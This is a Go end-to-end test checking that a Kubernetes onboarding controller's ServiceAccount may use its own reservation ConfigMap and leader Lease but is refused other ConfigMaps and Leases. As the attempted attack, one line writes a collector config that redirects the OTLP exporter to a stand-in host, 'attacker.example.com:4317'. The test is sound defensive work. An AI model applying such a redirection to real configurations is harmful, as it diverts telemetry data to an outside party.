package e2e

import (
	"context"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"

	"github.com/edgetel/edgetel/internal/cmd/onboard"
	"github.com/edgetel/edgetel/internal/cmd/onboard/join"
)

// TestOnboardControllerCannotWriteOtherConfigMaps: with the RBAC the chart renders, the real
// API server lets the onboarding controller's ServiceAccount keep its join reservations and win
// its leader Lease (both created by the chart), and refuses it any other ConfigMap or Lease in
// the release namespace: the collector's configuration cannot be rewritten through it.
func TestOnboardControllerCannotWriteOtherConfigMaps(t *testing.T) {
	c := cluster(t)
	ctx := context.Background()
	cfg, err := c.ServiceAccountConfig(ctx, Namespace, "edgetel-onboard-controller")
	require.NoError(t, err)
	sa, err := kubernetes.NewForConfig(cfg)
	require.NoError(t, err)
	admin, err := kubernetes.NewForConfig(c.Admin)
	require.NoError(t, err)
	args := controllerArgs(t)
	reservations, lease := flagValue(t, args, "-reservations-configmap"), flagValue(t, args, "-leader-election-id")

	// Its own objects work, through the code that uses them.
	store := join.ReservationStore{Client: sa, Namespace: Namespace, Name: reservations, TTL: time.Hour}
	require.NoError(t, store.Reserve(ctx, "edge-rbac", "192.0.2.77", "alice", nil))
	led := make(chan struct{})
	leaderCtx, cancel := context.WithTimeout(ctx, 30*time.Second)
	defer cancel()
	err = onboard.RunAsLeader(leaderCtx, onboard.LeaderConfig{Client: sa, Namespace: Namespace, Name: lease, Identity: "rbac-test",
		LeaseDuration: 2 * time.Second, RenewDeadline: time.Second, RetryPeriod: 200 * time.Millisecond},
		func(context.Context) { close(led); cancel() })
	require.NoError(t, err)
	select {
	case <-led:
	default:
		t.Fatal("the controller's identity never led with the chart's Lease")
	}

	// The collector's ConfigMap: the chart renders it, the controller may neither read nor write it.
	victim, err := admin.CoreV1().ConfigMaps(Namespace).Get(ctx, "edgetel-collector", metav1.GetOptions{})
	require.NoError(t, err)
	_, err = sa.CoreV1().ConfigMaps(Namespace).Get(ctx, victim.Name, metav1.GetOptions{})
	assert.True(t, apierrors.IsForbidden(err), "get the collector's ConfigMap: %v", err)
	victim.Data = map[string]string{"relay": "exporters: {otlp: {endpoint: attacker.example.com:4317}}"}
	_, err = sa.CoreV1().ConfigMaps(Namespace).Update(ctx, victim, metav1.UpdateOptions{})
	assert.True(t, apierrors.IsForbidden(err), "update the collector's ConfigMap: %v", err)
	_, err = sa.CoreV1().ConfigMaps(Namespace).Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "planted"}}, metav1.CreateOptions{})
	assert.True(t, apierrors.IsForbidden(err), "create a ConfigMap: %v", err)
	assert.True(t, apierrors.IsForbidden(sa.CoreV1().ConfigMaps(Namespace).Delete(ctx, reservations, metav1.DeleteOptions{})), "delete its own ConfigMap")

	// Another Lease: neither taken over nor created.
	other, err := admin.CoordinationV1().Leases(Namespace).Create(ctx, &coordinationv1.Lease{ObjectMeta: metav1.ObjectMeta{Name: "someone-else"}}, metav1.CreateOptions{})
	require.NoError(t, err)
	holder := "rbac-test"
	other.Spec.HolderIdentity = &holder
	_, err = sa.CoordinationV1().Leases(Namespace).Update(ctx, other, metav1.UpdateOptions{})
	assert.True(t, apierrors.IsForbidden(err), "update another Lease: %v", err)
	_, err = sa.CoordinationV1().Leases(Namespace).Create(ctx, &coordinationv1.Lease{ObjectMeta: metav1.ObjectMeta{Name: "planted"}}, metav1.CreateOptions{})
	assert.True(t, apierrors.IsForbidden(err), "create a Lease: %v", err)

	after, err := admin.CoreV1().ConfigMaps(Namespace).Get(ctx, "edgetel-collector", metav1.GetOptions{})
	require.NoError(t, err)
	assert.NotContains(t, after.Data, "relay")
}
